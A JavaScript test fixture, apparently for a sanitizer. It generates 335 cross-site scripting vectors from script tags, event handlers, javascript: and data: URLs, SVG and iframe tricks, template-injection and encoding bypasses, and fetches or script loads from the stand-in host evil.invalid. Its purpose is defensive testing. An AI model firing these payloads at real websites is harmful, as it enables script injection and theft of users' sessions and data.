// Texts that would run, load or send something where a page takes them for markup. Each calls
// pwned(), which must never happen, or asks another host for something, which must not either.

const run = ['pwned(1)', 'top.pwned(2)', 'alert(3)', 'fetch("//evil.invalid/4")', 'location="//evil.invalid/5"']

const shapes = [
  p => `<script>${p}</script>`, p => `<ScRiPt >${p}</sCrIpT>`, p => `</title><script>${p}</script>`, p => `</textarea><script>${p}</script>`, p => `"><script>${p}</script>`, p => `'><script>${p}</script>`,
  p => `<script src=//evil.invalid/a.js></script><!--${p}-->`, p => `<script type=module>${p}</script>`, p => `<svg><script>${p}</script></svg>`, p => `<svg onload=${p}>`, p => `<svg><animate onbegin=${p} attributeName=x dur=1s>`,
  p => `<svg><a xlink:href="javascript:${p}"><text x=9 y=9>x</text></a></svg>`, p => `<img src=x onerror=${p}>`, p => `<img src=x onerror="${p}">`, p => `<img/src=x/onerror=${p}//`, p => `<img src="//evil.invalid/i.png" alt="${p}">`, p => `<image src=x onerror=${p}>`,
  p => `<iframe srcdoc="<script>parent.${p}</script>">`, p => `<iframe src="javascript:parent.${p}">`, p => `<iframe src=//evil.invalid/f></iframe>${p}`, p => `<object data="javascript:${p}">`, p => `<embed src="javascript:${p}">`, p => `<a href="javascript:${p}">x</a>`,
  p => `<a href="//evil.invalid/" ping="//evil.invalid/p" autofocus onfocus=${p}>x</a>`, p => `<input autofocus onfocus=${p}>`, p => `<select autofocus onfocus=${p}>`, p => `<textarea autofocus onfocus=${p}>`, p => `<details open ontoggle=${p}>`, p => `<video src=x onerror=${p}>`,
  p => `<video><source onerror="${p}">`, p => `<audio src=x onerror=${p}>`, p => `<body onload=${p}>`, p => `<marquee onstart=${p}>`, p => `<form action="javascript:${p}"><button autofocus>x`, p => `<math><mtext></form><form><mglyph><style></math><img src onerror=${p}>`, p => `<style>@import "//evil.invalid/s.css";</style>${p}`,
  p => `<link rel=stylesheet href=//evil.invalid/l.css>${p}`, p => `<meta http-equiv=refresh content="0;url=javascript:${p}">`, p => `<base href=//evil.invalid/>${p}`, p => `<template><script>${p}</script></template>`, p => `<noscript><p title="</noscript><img src=x onerror=${p}>">`, p => `<xss style=animation-name:x onanimationstart=${p}>`,
  p => `![x](//evil.invalid/m.png "${p}")`, p => `[x](javascript:${p})`, p => `[x](data:text/html,<script>${p}</script>)`, p => `javascript:${p}`, p => `data:text/html,<script>${p}</script>`, p => `&lt;script&gt;${p}&lt;/script&gt;`, p => `&#60;img src=x onerror=${p}&#62;`, p => `\\u003cscript\\u003e${p}\\u003c/script\\u003e`,
  p => `"onmouseover="${p}`, p => `' onfocus='${p}' autofocus='`, p => `\`\${${p}}\``, p => `{{constructor.constructor('${p}')()}}`, p => `\${${p}}`, p => `<%= ${p} %>`, p => `--><img src=x onerror=${p}>`, p => `]]><script>${p}</script>`, p => `\u2028<script>${p}</script>\u2029`, p => `<img src=x\u0000 onerror=${p}>`,
  p => `\u202e<script>${p}</script>`, p => `＜script＞${p}＜/script＞`, p => `+ADw-script+AD4-${p}+ADw-/script+AD4-`, p => `<style>*{background:url(//evil.invalid/${p})}</style>`, p => `<p style="background:url(//evil.invalid/b)">${p}`, p => `__proto__.x=${p}`, p => `constructor[prototype]=${p}`,
]

/** 335 of them. */
export const vectors = shapes.flatMap(shape => run.map(shape))
